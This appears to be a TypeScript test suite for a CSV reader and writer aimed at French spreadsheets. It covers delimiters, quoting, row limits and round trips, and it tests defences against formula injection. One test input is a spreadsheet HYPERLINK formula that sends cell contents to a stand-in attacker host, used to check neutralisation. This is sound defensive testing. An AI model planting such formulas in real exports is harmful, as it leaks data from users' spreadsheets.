import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CSV_MAX_CHARS, csvAmount, csvDay, csvNumber, readCsv, writeCsv, type CsvCell } from "@/lib/csv";
import { DomainError } from "@/lib/domain/errors";

// The cells as a spreadsheet sees them: the file parsed by the library alone, neutralising `'` kept.
const rawCells = (csv: string) => parse(csv, { bom: true, delimiter: ";", relax_column_count: true }) as string[][];
const cellsOf = (text: string) => readCsv(text).records.map((r) => r.cells);
const linesOf = (text: string) => readCsv(text).records.map((r) => [r.line, r.cells[0]]);

describe("writing CSV", () => {
  it("writes what French spreadsheets read: BOM, `;`, CRLF, quotes where needed, decimal commas", () => {
    expect(
      writeCsv([
        ["Produit", "Montant", "Quantité", "Jour"],
        ["Pain; complet", csvAmount(1250), csvNumber("0.5"), csvDay("2026-03-01")],
        ['Dit "bio"', csvAmount(5), csvNumber(550), null],
      ]),
    ).toBe(
      '\uFEFFProduit;Montant;Quantité;Jour\r\n"Pain; complet";12,50;0,5;2026-03-01\r\n"Dit ""bio""";0,05;550;\r\n',
    );
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', `"'=HYPERLINK(""http://evil.example/?x=""&A1;""Cliquez"")"`],
    ["+33 6 12 34 56 78", "'+33 6 12 34 56 78"],
    ["-20 % sur les pommes", "'-20 % sur les pommes"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", `"'\t=1+1"`],
    ["\r=1+1", `"'\r=1+1"`],
    ["＝1+1", "'＝1+1"],
    ["'=1+1", "''=1+1"],
    ["Pomme = fruit", "Pomme = fruit"],
    ["'Ohara", "'Ohara"],
  ])("writes the text %j as %s, which reads back as typed", (text, written) => {
    const csv = writeCsv([[text, "x"]]);
    expect(csv).toBe(`\uFEFF${written};x\r\n`);
    expect(rawCells(csv)[0][0]).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    expect(cellsOf(csv)).toEqual([[text, "x"]]);
  });

  it("never neutralises figures: a negative amount stays a number", () => {
    const csv = writeCsv([["Remboursement", csvAmount(-1250), csvNumber(-3), csvNumber("-0.25")]]);
    expect(csv).toBe("\uFEFFRemboursement;-12,50;-3;-0,25\r\n");
    expect(cellsOf(csv)).toEqual([["Remboursement", "-12,50", "-3", "-0,25"]]);
  });

  it("refuses a figure that is not one", () => {
    expect(() => csvNumber("=1+1")).toThrow();
    expect(() => csvNumber("1e-7")).toThrow();
    expect(() => csvDay("=NOW()")).toThrow();
    expect(() => csvAmount(12.5)).toThrow();
  });
});

describe("reading CSV", () => {
  it("detects `;`, `,` and tab, drops the BOM, reads quotes, doubled quotes and line breaks in quotes", () => {
    const cells = [
      ["Lentilles", 'Vertes, du "Puy"; bio', "3,74"],
      ["Pois", "ligne 1\r\nligne 2", "2,10"],
    ];
    expect(cellsOf('\uFEFFLentilles;"Vertes, du ""Puy""; bio";3,74\r\nPois;"ligne 1\r\nligne 2";2,10\r\n')).toEqual(
      cells,
    );
    expect(cellsOf('Lentilles,"Vertes, du ""Puy""; bio","3,74"\nPois,"ligne 1\r\nligne 2","2,10"')).toEqual(cells);
    expect(cellsOf('Lentilles\tVertes, du "Puy"; bio\t3,74\nPois\t"ligne 1\r\nligne 2"\t2,10\n')).toEqual(cells);
  });

  it("trims cells that are not quoted, keeps quoted spaces and a quote typed inside a cell", () => {
    expect(cellsOf(' Zoé ;  " Martin "  ; Pizza 30" \n')).toEqual([["Zoé", " Martin ", 'Pizza 30"']]);
  });

  it("skips blank rows and `;;;` rows, and gives each row the line it starts on in an editor", () => {
    const text = 'nom;description\r\n\r\nPois;"ligne 1\r\nligne 2"\r\n   \r\n;;\r\nLentilles;"a\rb\nc"\nSel;\n';
    expect(linesOf(text)).toEqual([
      [1, "nom"],
      [3, "Pois"],
      [7, "Lentilles"],
      [10, "Sel"],
    ]);
  });

  it("returns the rows before a malformed one, and the line where that one starts", () => {
    expect(readCsv('Pois;1\n\n"Lentilles;2\nSel;3\n')).toEqual({
      records: [{ line: 1, cells: ["Pois", "1"] }],
      error: { line: 3, code: "CSV_QUOTE_NOT_CLOSED" },
    });
    expect(readCsv('Pois;1\r\nLentilles;"vertes" du Puy;2\r\n').error).toEqual({
      line: 2,
      code: "CSV_LINE_UNREADABLE",
    });
  });

  it("caps the number of rows (a header does not count) and the size", () => {
    const rows = (n: number) => Array.from({ length: n }, (_, i) => `Personne ${i};x`).join("\n");
    const isHeader = (cells: string[]) => cells[0] === "nom";
    expect(readCsv(`nom;x\n${rows(3)}`, { isHeader, maxRows: 3 }).records).toHaveLength(3);
    expect(() => readCsv(rows(4), { maxRows: 3 })).toThrow(new DomainError("CSV_TOO_LONG", "csv"));
    expect(() => readCsv("x".repeat(CSV_MAX_CHARS + 1))).toThrow(new DomainError("CSV_TOO_LARGE", "csv"));
  });
});

// Characters that break naive CSV code, mixed with any other code point.
const tricky = fc.constantFrom(
  ";",
  ",",
  "\t",
  '"',
  "'",
  "=",
  "+",
  "-",
  "@",
  "\r",
  "\n",
  "\r\n",
  " ",
  "é",
  "œ",
  "\u00a0",
  "\uFEFF",
  "＝",
);
const anyText = fc.string({ unit: fc.oneof(tricky, fc.string({ unit: "binary", minLength: 1, maxLength: 1 })) });
const grid = (text: fc.Arbitrary<string>) =>
  fc
    .integer({ min: 1, max: 5 })
    .chain((columns) => fc.array(fc.array(text, { minLength: columns, maxLength: columns }), { maxLength: 8 }))
    // A row of empty cells is skipped like a blank line: a spreadsheet writes one for every empty row.
    .map((rows) => rows.filter((row) => row.some((cell) => cell !== "")));

describe("round trips", () => {
  it("any grid of text written by writeCsv reads back as the same cells, and no cell opens as a formula", () => {
    fc.assert(
      fc.property(grid(anyText), (rows) => {
        const csv = writeCsv(rows);
        expect(cellsOf(csv)).toEqual(rows);
        for (const cell of rawCells(csv).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }),
      { numRuns: 500 },
    );
  }, 30_000);

  it("a file another spreadsheet wrote (every cell quoted, `;`, `,` or tab, BOM or not) reads back the same", () => {
    // Only a `'` before a formula character is read differently: it is taken for writeCsv's neutralising mark.
    const text = anyText.filter((cell) => !/^'+[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell));
    fc.assert(
      fc.property(grid(text), fc.constantFrom(";", ",", "\t"), fc.boolean(), (rows, delimiter, bom) => {
        const csv = stringify(rows, { delimiter, quoted: true, quoted_empty: true, bom, record_delimiter: "windows" });
        expect(cellsOf(csv)).toEqual(rows);
      }),
      { numRuns: 300 },
    );
  }, 30_000);

  it("writes typed rows whose figures read back as written", () => {
    const rows: CsvCell[][] = [["=1+1", csvAmount(-1250), csvDay("2026-03-01"), csvNumber("0.125"), null]];
    expect(cellsOf(writeCsv(rows))).toEqual([["=1+1", "-12,50", "2026-03-01", "0,125", ""]]);
  });
});
